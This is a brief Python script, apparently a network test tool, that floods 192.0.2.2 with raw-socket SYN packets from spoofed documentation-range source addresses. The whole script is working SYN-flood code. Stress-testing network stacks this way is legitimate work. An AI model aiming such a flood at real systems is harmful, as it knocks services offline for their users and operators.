#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# synflood.py IFACE DST_MAC COUNT PORT - send COUNT SYNs with spoofed
# sources (192.0.2.100-199, random ports) to 192.0.2.2:PORT as fast as a
# raw AF_PACKET socket takes them.  Frames are built once with scapy.
import random
import socket
import sys

from scapy.all import IP, TCP, Ether, raw


def main():
    iface, dmac, count, port = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
        int(sys.argv[4])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    rnd = random.Random(7)
    sent = 0
    for i in range(count):
        src = f"192.0.2.{100 + i % 100}"
        f = Ether(dst=dmac) / IP(src=src, dst="192.0.2.2") / TCP(
            sport=rnd.randrange(1024, 65535), dport=port, flags="S",
            seq=rnd.randrange(1 << 32), options=[("MSS", 1460)])
        s.send(raw(f))
        sent += 1
    print(f"synflood sent {sent} SYNs")


if __name__ == "__main__":
    main()
